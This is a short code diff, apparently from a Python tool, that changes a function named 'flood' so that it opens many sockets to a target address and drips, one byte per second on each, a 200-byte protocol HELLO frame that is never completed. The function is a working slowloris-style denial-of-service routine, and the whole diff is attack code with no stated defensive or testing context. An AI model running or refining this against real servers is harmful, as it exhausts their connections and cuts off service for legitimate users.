@@ -175,6 +175,7 @@ def flood(addr, n, secs, src):
     host, port = addr.rsplit(":", 1)
     sel = selectors.DefaultSelector()
     opened = 0
+    hello = frame(HELLO, b"\x01\x00" + b"x" * 200)   # never finished
 
     def one():
         nonlocal opened
@@ -185,7 +186,7 @@ def flood(addr, n, secs, src):
             s.connect((host, int(port)))
         except BlockingIOError:
             pass
-        sel.register(s, selectors.EVENT_READ)
+        sel.register(s, selectors.EVENT_READ, data=[0])
         opened += 1
 
     for _ in range(n):
@@ -206,8 +207,10 @@ def flood(addr, n, secs, src):
         if time.monotonic() - last >= 1.0:     # a byte a second on each
             last = time.monotonic()
             for key in list(sel.get_map().values()):
+                i = key.data[0]
                 try:
-                    key.fileobj.send(b"\x53")
+                    key.fileobj.send(hello[i:i + 1])
+                    key.data[0] = (i + 1) % len(hello)
                 except (BlockingIOError, OSError):
                     pass
     print("opened=%d" % opened)
